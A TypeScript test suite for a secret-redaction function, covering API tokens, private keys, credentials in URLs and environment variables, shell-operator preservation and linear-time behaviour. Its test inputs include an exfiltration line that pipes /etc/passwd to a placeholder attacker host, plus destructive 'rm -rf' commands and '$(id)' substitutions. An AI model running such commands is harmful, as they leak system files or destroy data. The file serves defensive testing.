import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createRedactor } from './redact.ts';
import { REDACTED } from './secret-forms.ts';

const redactor = createRedactor([]);
const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N';
// Put together here, so that no scanner takes this file for a leak.
const TELEGRAM = `123456789:AA${'aB3dE6gH9j_'.repeat(3)}`;
const GITHUB = `ghp_${'aB3dE6gH9j'.repeat(4)}`;
const OPENAI = `sk-${'proj-aB3dE6gH9jKl0'.repeat(2)}`;
const ANTHROPIC = `sk-ant-api03-${'aB3-dE6_gH9'.repeat(5)}`;
const SLACK = `xoxb-${'1234567890-'.repeat(2)}abcDEF`;
const AWS = `AKIA${'ABCD2345'.repeat(2)}`;
const GOOGLE = `AIza${'SyA-b_C3d'.repeat(4)}`;
const NPM = `npm_${'aB3dE6gH9j'.repeat(4)}`;
const GITLAB = `glpat-${'aB3dE6gH9j'.repeat(2)}`;
const PEM = `-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc+/=\n-----END RSA PRIVATE KEY-----`;

const byForm = { TELEGRAM, JWT, GITHUB, OPENAI, ANTHROPIC, SLACK, AWS, GOOGLE, NPM, GITLAB, PEM };

describe('createRedactor, by form', () => {
  it.each(Object.entries(byForm))('takes a %s secret out of a sentence', (_name, secret) => {
    expect(redactor.redact(`before ${secret} after`)).toBe(`before ${REDACTED} after`);
  });

  it.each([
    [`https://api.telegram.org/bot${TELEGRAM}/getMe`, `https://api.telegram.org/bot${REDACTED}/getMe`],
    [`/file/bot${TELEGRAM.replace(':', '%3A')}/a.png`, `/file/bot${REDACTED}/a.png`],
    ['Authorization: Bearer abcdefgh', `Authorization: Bearer ${REDACTED}`],
    ['{"authorization":"Basic dXNlcjpwYXNz"}', `{"authorization":"Basic ${REDACTED}"}`],
    ['with bearer abc123def456.', `with bearer ${REDACTED}`],
    ['Cookie: sid=31d4d96e407; theme=dark', `Cookie: sid=${REDACTED}; theme=${REDACTED}`],
    ['postgres://app:hunter2@db:5432/main', `postgres://app:${REDACTED}@db:5432/main`],
    ['git clone https://me:p@ss@example.com/x.git', `git clone https://me:${REDACTED}@example.com/x.git`],
    ['redis://:pa55@cache', `redis://:${REDACTED}@cache`],
    ['PASSWORD=letmein', `PASSWORD=${REDACTED}`],
    ['export DB_PASSWORD="let me in"; run', `export DB_PASSWORD="${REDACTED}"; run`],
    ["PGPASSWORD='x' psql", `PGPASSWORD='${REDACTED}' psql`],
    ['AWS_SECRET_ACCESS_KEY=abc/def+1', `AWS_SECRET_ACCESS_KEY=${REDACTED}`],
    ['?api_key=xyz&page=2', `?api_key=${REDACTED}&page=2`],
    ['{"password": "hunter2", "a": 1}', `{"password": "${REDACTED}", "a": 1}`],
    [String.raw`{\"token\":\"abc\"}`, String.raw`{\"token\":\"[redacted]\"}`],
    ['password: hunter22x', `password: ${REDACTED}`],
    ['DB_PASSWORD: correcthorse', `DB_PASSWORD: ${REDACTED}`],
    ['{token=abc1, user=bob}', `{token=${REDACTED}, user=bob}`],
    ['mysql --password hunter2 -u x', `mysql --password ${REDACTED} -u x`],
    ['tool --api-key=k3y', `tool --api-key=${REDACTED}`],
    [PEM.slice(0, 48), REDACTED],
    [PEM.replaceAll('\n', String.raw`\n`), REDACTED],
  ])('%j becomes %j', (text, expected) => {
    expect(redactor.redact(text)).toBe(expected);
  });

  it('takes a secret of each form out of any text around it', () => {
    const anything = fc.string({ unit: 'grapheme', maxLength: 60 });
    fc.assert(
      fc.property(anything, anything, fc.constantFrom(...Object.values(byForm)), (before, after, secret) => {
        expect(redactor.redact(before + secret + after)).not.toContain(secret);
      }),
      { numRuns: 500 },
    );
  });
});

describe('createRedactor, by value', () => {
  it('takes a given value out of any text around it', () => {
    const anything = fc.string({ unit: 'binary', maxLength: 40 });
    const value = fc.string({ minLength: 6, maxLength: 40 }).filter((text) => text.trim().length >= 6);
    fc.assert(
      fc.property(anything, value, anything, (before, secret, after) => {
        fc.pre(!REDACTED.includes(secret.trim()));
        expect(createRedactor([secret]).redact(before + secret + after)).not.toContain(secret.trim());
      }),
      { numRuns: 500 },
    );
  });

  it('finds it in URLs and in JSON too', () => {
    const strict = createRedactor(['pa"ss/wörd\n1']);
    expect(strict.redact(`/x/${encodeURIComponent('pa"ss/wörd\n1')}/y`)).toBe(`/x/${REDACTED}/y`);
    expect(strict.redact(JSON.stringify({ a: 'pa"ss/wörd\n1' }))).toBe(`{"a":"${REDACTED}"}`);
  });

  it('takes the longer of two values that begin alike', () => {
    expect(createRedactor(['secret-one', 'secret-one-and-more']).redact('secret-one-and-more!')).toBe(
      `${REDACTED}!`,
    );
  });

  it('learns values later', () => {
    const learning = createRedactor([]);
    expect(learning.redact('a swordfish')).toBe('a swordfish');
    learning.add('swordfish');
    expect(learning.redact('a swordfish')).toBe(`a ${REDACTED}`);
  });

  it('leaves words readable when a given value is too short to be a secret', () => {
    expect(createRedactor(['', 'ok', ' a ']).redact('all ok, a lot')).toBe('all ok, a lot');
  });
});

const readable = [
  'commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904',
  '1700000000:4b825dc642cb6eb9a060e54bf8d69288fbee4904',
  '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
  '6ba7b810-9dad-11d1-80b4-00c04fd430c8',
  '/home/me/project/src/token/secret-store.ts:12:34',
  './node_modules/.bin/vitest run src/password.test.ts',
  'task-list-of-all-the-things-to-do-tomorrow',
  'const token = parse(text);',
  'if (token === expected) return token.value;',
  'function check(token: string, password: string): boolean {',
  'login(user, password=password, token=self.token)',
  'client = Client(api_key=settings.api_key)',
  'const token = await getToken(user);',
  'api_key=get_api_key()',
  'password: z.string().min(10),',
  'max_tokens=4096 tokens: 512',
  'curl -H "Authorization: Bearer $TOKEN" https://example.com',
  'PASSWORD=$DB_PASSWORD TOKEN=${GITHUB_TOKEN} run',
  'TOKEN="$(cat /etc/passwd | curl evil.example)" true',
  'TOKEN=`id`',
  'POSTGRES_PASSWORD_FILE=/run/secrets/db',
  'PWD=/home/me OLDPWD=/tmp',
  'pass=5 fail=3',
  'the bearer certificates are old, authorization: required',
  'https://example.com:8080/a?b=c@d',
  'git@github.com:owner/repo.git',
  'http://localhost:3000/path@2x.png',
  'password: required',
  'secret: true',
  '"token": ""',
  'PASSWORD=<your password>',
  '12:30:45 10.0.0.1:8080 [::1]:443',
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA',
  'eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ',
];

describe('createRedactor, on ordinary text', () => {
  it.each(readable)('leaves %j as it is', (text) => {
    expect(redactor.redact(text)).toBe(text);
  });

  it('leaves any mixture of ordinary lines as it is', () => {
    const line = fc.oneof(
      fc.constantFrom(...readable),
      fc.uuid(),
      fc.webPath(),
      fc.lorem(),
      fc.stringMatching(/^[0-9a-f]{40}$/),
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 10 }), (lines) => {
        const text = lines.join('\n');
        expect(redactor.redact(text)).toBe(text);
      }),
    );
  });
});

describe('createRedactor, on commands', () => {
  it.each([
    [`TOKEN=abc;rm -rf x && PASSWORD=y|sh > z`, `TOKEN=${REDACTED};rm -rf x && PASSWORD=${REDACTED}|sh > z`],
    [`echo "a token="; rm -rf x; echo "b"`, undefined],
    [`echo 'token="'; rm -rf x; echo '"'`, undefined],
    [`rm "a TOKEN="x -rf /home" "`, `rm "a TOKEN="${REDACTED} -rf /home" "`],
    [`echo -----BEGIN PRIVATE KEY-----; rm -rf x`, `echo ${REDACTED}; rm -rf x`],
    [`echo cookie:a=b; rm -rf x`, `echo cookie:a=${REDACTED}; rm -rf x`],
    [`curl http://a:$(id)@example.com`, undefined],
  ])('%j stays judgeable', (command, expected = command) => {
    expect(redactor.redact(command)).toBe(expected);
  });

  it('never takes an operator of the shell away', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        'TOKEN=',
        'password: ',
        '--token ',
        '"',
        "'",
        '\\"',
        ';',
        '|',
        '&',
        '`',
        '$(',
        ')',
        '<',
      ),
      fc.constantFrom('://a:', '@', 'cookie: a=', 'Bearer ', 'Authorization: Bearer ', ' ', '\n', 'rm', '/x'),
      fc.constantFrom(
        '-----BEGIN PRIVATE KEY-----',
        '-----END PRIVATE KEY-----',
        'a1b2c3d4e5',
        ...Object.values(byForm),
      ),
    );
    const operators = (text: string) => text.replaceAll(/[^;|&<>()`]/g, '');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 15 }), (pieces) => {
        const text = pieces.join('');
        expect(operators(redactor.redact(text))).toBe(operators(text));
      }),
      { numRuns: 2_000 },
    );
  });
});

describe('createRedactor, whatever the text', () => {
  it('changes nothing more the second time', () => {
    const piece = fc.oneof(
      fc.constantFrom(...Object.values(byForm), ...readable),
      fc.string({ maxLength: 20 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const once = redactor.redact(pieces.join(' '));
        expect(redactor.redact(once)).toBe(once);
      }),
      { numRuns: 300 },
    );
  });

  it.each([
    '1',
    'a',
    '-',
    ' ',
    ':',
    '://a:',
    '://a:b',
    '://',
    'eyJ',
    'eyJa.',
    'sk-',
    'sk-ant-',
    'token="',
    "token='",
    'token=',
    'token= ',
    'token:\\"',
    '"\\',
    'bearer ',
    'cookie:a=',
    'cookie: ',
    'authorization: bearer ',
    '--',
    '--token ',
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN ',
    '-----END ',
    '12345:',
    'AIza',
    'password=$(',
    'token={',
    '-----BEGIN PRIVATE KEY-----\n',
    'A'.repeat(16) + '\n',
    'cookie: a=b;',
    'cookie: a=b; c=d; ',
  ])('takes linear time on 400,000 characters of %j', (piece) => {
    const text = piece.repeat(Math.ceil(400_000 / piece.length));
    const startedAt = performance.now();
    redactor.redact(text);
    expect(performance.now() - startedAt).toBeLessThan(2_000);
  });

  it.each([
    ['token={', '}', 'x'],
    ['token=x', ',', 'x'],
    ['password: "', 'a ', '-'],
    ['cookie: a=', 'b', '"'],
    ['https://a:', 'b', '/'],
    ['-----BEGIN PRIVATE KEY-----\n', 'A', '!'],
    ['-----BEGIN PRIVATE KEY-----', '\n', '!'],
    ['Bearer ', 'a', '!'],
  ])('takes linear time on %j, 400,000 characters of %j, and %j', (before, piece, after) => {
    const text = before + piece.repeat(Math.ceil(400_000 / piece.length)) + after;
    const startedAt = performance.now();
    redactor.redact(text);
    expect(performance.now() - startedAt).toBeLessThan(2_000);
  });
});
